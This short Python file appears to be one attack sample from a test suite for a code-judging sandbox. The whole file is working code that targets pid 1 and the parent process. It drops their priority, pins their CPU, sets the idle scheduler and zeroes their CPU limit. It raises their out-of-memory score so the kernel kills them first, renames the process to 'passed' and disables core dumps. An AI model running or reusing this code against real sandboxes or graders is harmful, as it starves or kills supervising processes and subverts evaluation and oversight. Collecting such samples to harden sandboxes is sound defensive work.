# attack: takes the CPU from pid 1 by priority, affinity, scheduler and the out-of-memory score
# shape: action
# causes: WRONG_ANSWER, SIGNALED
import os
import resource


def attack() -> None:
    def attempt(act, *args):
        try:
            act(*args)
        except (OSError, ValueError):
            pass

    for pid in (1, os.getppid()):
        attempt(os.setpriority, os.PRIO_PROCESS, pid, 19)
        attempt(os.sched_setaffinity, pid, {0})
        attempt(os.sched_setscheduler, pid, os.SCHED_IDLE, os.sched_param(0))
        attempt(resource.prlimit, pid, resource.RLIMIT_CPU, (0, 0))
        for name, value in (("oom_score_adj", "1000"), ("comm", "passed"), ("coredump_filter", "0")):
            try:
                with open(f"/proc/{pid}/{name}", "w") as file:
                    file.write(value)
            except OSError:
                pass
    attempt(os.setpriority, os.PRIO_USER, 0, 19)
